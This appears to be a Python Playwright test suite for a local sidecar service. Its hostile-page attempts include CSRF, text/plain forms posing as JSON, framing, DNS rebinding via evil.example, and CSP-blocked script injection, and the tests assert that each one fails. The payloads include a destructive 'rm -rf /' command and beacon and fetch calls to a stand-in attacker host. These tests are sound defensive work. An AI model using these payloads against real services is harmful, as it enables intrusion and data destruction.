"""Hostile pages in a real browser, against a server without a token, and a page with foreign code in it.

What they attempt must fail in the browser, and must not have happened at the server either.
"""

import contextlib
import threading
from http.server import BaseHTTPRequestHandler

import pytest
from live_service import LiveService
from playwright.sync_api import expect
from scripted_hermes import QuietServer
from sidecar import Sidecar
from working_hermes import WorkingHermes

TIMEOUT = 10_000  # milliseconds
HTML = b"<!doctype html><title>hostile</title><p>hostile</p>"


class Elsewhere:
    """Another web server of this machine: a hostile page, and a list of what browsers asked it for."""

    def __enter__(self):
        asked = self.asked = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append((self.headers["Host"].partition(":")[0], self.path))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(HTML)))
                self.end_headers()
                self.wfile.write(HTML)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = QuietServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.01,))
        self.thread.start()
        return self

    def __exit__(self, *error):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


class Scene:
    """A sidecar without a token, its upstreams, and a hostile server."""

    def __init__(self, stack):
        self.live = stack.enter_context(LiveService())
        self.hermes = stack.enter_context(WorkingHermes())
        self.sidecar = stack.enter_context(Sidecar(self.live, self.hermes.url, self.hermes.key))
        self.elsewhere = stack.enter_context(Elsewhere())
        self.port = int(self.sidecar.url.rstrip("/").rpartition(":")[2])

    def assert_nothing_happened(self):
        assert self.sidecar.get("runs?conversation=c1") == {"runs": []}
        assert self.sidecar.get("conversations") == {"conversations": []}
        assert self.hermes.asked("POST", "/*") == []
        assert self.live.creates == 0
        assert self.live.hangups == []


@pytest.fixture(scope="module")
def scene():
    """One for all tests: what one of them had brought about, the later ones would find too."""
    with contextlib.ExitStack() as stack:
        yield Scene(stack)


@pytest.fixture
def page(browser):
    context = browser.new_context()
    context.set_default_timeout(TIMEOUT)
    yield context.new_page()
    context.close()


# What a page attempts: a path, and how. Each comes back as a status, or as an error's name.
ATTEMPTS = """async ({ base, bodies }) => {
  const outcomes = {};
  const attempt = async (name, path, init) => {
    try {
      const answer = await fetch(new URL(path, base), init);
      outcomes[name] = answer.type === "opaque" ? "opaque" : answer.status;
    } catch (error) {
      outcomes[name] = error.name;
    }
  };
  for (const path of ["", "config", "runs?conversation=c1", "conversations"]) {
    await attempt(`read ${path}`, path, {});
    await attempt(`read ${path} unseen`, path, { mode: "no-cors", credentials: "include" });
  }
  for (const [path, body] of Object.entries(bodies)) {
    const text = JSON.stringify(body);
    const json = { "Content-Type": "application/json" };
    await attempt(`post ${path}`, path, { method: "POST", headers: json, body: text });
    await attempt(`post ${path} unseen`, path, { method: "POST", mode: "no-cors", body: text });
    const blob = new Blob([text], { type: "application/json" });
    await attempt(`post ${path} as a blob`, path, { method: "POST", mode: "no-cors", body: blob });
    navigator.sendBeacon(new URL(path, base), blob);
    navigator.sendBeacon(new URL(path, base), text);
  }
  await attempt("delete", "conversations/c1", { method: "DELETE" });
  return outcomes;
}"""

BODIES = {
    "delegate": {"hermes_session": "c1", "lines": [{"speaker": "user", "text": "rm -rf /"}]},
    "session": {"sdp": "v=0\r\nm=audio 9\r\n"},
    "session/close": {"session_id": "sess_1"},
    "approve": {"run_id": "run_1", "choice": "once"},
    "conversations/c1/lines": {"lines": [{"speaker": "user", "text": "planted", "key": "k1"}]},
    "runs/run_1/stop": {},
    "runs/run_1/delivered": {},
}

# A form needs no permission to be sent, and its text/plain body can be made to look like JSON.
FORM = """({ action, target }) => {
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action, target, enctype: "text/plain" });
  const field = document.createElement("input");
  field.name = '{"hermes_session": "c1", "lines": [{"speaker": "user", "text": "rm -rf /"}], "x": "';
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
}"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.example"])
def test_a_page_of_another_origin_reads_nothing_and_does_nothing(scene, page, host):
    page.goto(f"http://{host}:{scene.elsewhere.port}/")

    outcomes = page.evaluate(ATTEMPTS, {"base": scene.sidecar.url, "bodies": BODIES})

    seen = {name: outcome for name, outcome in outcomes.items() if not name.endswith(("unseen", "blob"))}
    assert set(seen.values()) == {"TypeError"}  # as fetch calls what the browser keeps to itself
    assert not [name for name, outcome in outcomes.items() if isinstance(outcome, int)]
    scene.assert_nothing_happened()


@pytest.mark.parametrize("host", ["localhost", "evil.example"])
def test_a_form_of_another_origin_starts_nothing(scene, page, host):
    page.goto(f"http://{host}:{scene.elsewhere.port}/")
    action = f"{scene.sidecar.url}delegate"

    with page.expect_response(action) as answered:
        page.evaluate(FORM, {"action": action, "target": "_self"})

    assert answered.value.status == 403
    scene.assert_nothing_happened()


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.example"])
def test_the_page_is_not_shown_inside_another(scene, page, host):
    page.goto(f"http://{host}:{scene.elsewhere.port}/")

    page.evaluate(
        """src => new Promise((resolve) => {
          const frame = Object.assign(document.createElement("iframe"), { src, onload: resolve });
          document.body.append(frame);
        })""",
        scene.sidecar.url,
    )

    (frame,) = page.main_frame.child_frames
    assert frame.get_by_role("button", name="Start call").count() == 0
    assert frame.url != scene.sidecar.url


def test_a_window_that_another_page_opened_is_out_of_its_reach(scene, page):
    page.goto(f"http://evil.example:{scene.elsewhere.port}/")

    with page.expect_popup() as opened:
        page.evaluate("url => { window.opened = window.open(url); }", scene.sidecar.url)
    expect(opened.value.get_by_role("button", name="Start call")).to_be_visible()

    assert page.evaluate("window.opened.closed")  # so it seems to the opener
    assert opened.value.evaluate("window.opener") is None


def test_a_script_or_picture_tag_gets_nothing(scene, page):
    page.goto(f"http://evil.example:{scene.elsewhere.port}/")

    outcomes = page.evaluate(
        """base => Promise.all(["app.js", "config", "icon.svg"].map((path) => new Promise((resolve) => {
          const tag = document.createElement(path.endsWith("svg") ? "img" : "script");
          tag.onload = () => resolve("loaded");
          tag.onerror = () => resolve("refused");
          tag.src = new URL(path, base);
          document.body.append(tag);
        })))""",
        scene.sidecar.url,
    )

    assert outcomes == ["refused"] * 3


def test_a_name_that_is_turned_to_this_machine_gets_nothing(scene, page):
    """DNS rebinding: for the browser it is one origin, so only the Host header tells."""
    base = f"http://evil.example:{scene.port}/"
    assert page.goto(base).status == 421

    outcomes = page.evaluate(ATTEMPTS, {"base": base, "bodies": BODIES})

    assert set(outcomes.values()) == {421}
    scene.assert_nothing_happened()


# ---- foreign code in the page ------------------------------------------------

# Each tries to run something or to reach another server. The policy's directive that stops it.
INJECTIONS = {
    "script-src-elem inline": "append('script', { textContent: 'window.ran = true' })",
    "script-src-elem": "append('script', { src: there + 'script' })",
    "script-src-attr": "append('p', { innerHTML: '<img src=x onerror=\"window.ran = true\">' })",
    "script-src-elem link": "append('a', { href: 'javascript:window.ran = true' }).click()",
    # Later, since DevTools lifts the ban of eval while it evaluates.
    "script-src": "setTimeout(() => eval('window.ran = true'))",
    "img-src": "append('img', { src: there + 'image' })",
    "connect-src": "fetch(there + 'fetch').catch(() => {})",
    "connect-src beacon": "navigator.sendBeacon(there + 'beacon', 'stolen')",
    "connect-src socket": "try { new WebSocket(there.replace('http', 'ws')) } catch {}",
    "style-src-elem": "append('link', { rel: 'stylesheet', href: there + 'style' })",
    "style-src-attr": "append('p', {}).setAttribute('style', 'position: fixed')",
    "frame-src": "append('iframe', { src: there + 'frame' })",
    "object-src": "append('object', { data: there + 'object' })",
    "media-src": "append('audio', { src: there + 'audio' })",
    "worker-src": "try { new Worker(URL.createObjectURL(new Blob(['fetch(1)']))) } catch {}",
    "form-action": "append('form', { method: 'POST', action: there + 'form' }).submit()",
    "base-uri": "document.head.prepend(Object.assign(document.createElement('base'), { href: there }))",
}


@pytest.mark.parametrize("name", INJECTIONS)
def test_foreign_code_in_the_page_runs_nothing_and_reaches_nobody(scene, browser, name):
    scene.elsewhere.asked.clear()
    page = scene.sidecar.open(browser)
    expect(page.get_by_role("button", name="Start call")).to_be_visible()

    violated = page.evaluate(
        """async (there) => {
          const violation = new Promise((resolve) => {
            addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
            setTimeout(resolve, 5000, "nothing");
          });
          const append = (tag, fields) => {
            const node = Object.assign(document.createElement(tag), fields);
            document.body.append(node);
            return node;
          };
          INJECTION;
          return violation;
        }""".replace("INJECTION", INJECTIONS[name]),
        f"http://evil.example:{scene.elsewhere.port}/",
    )

    assert violated == name.partition(" ")[0]
    assert page.evaluate("window.ran") is None
    assert scene.elsewhere.asked == []
    page.context.close()
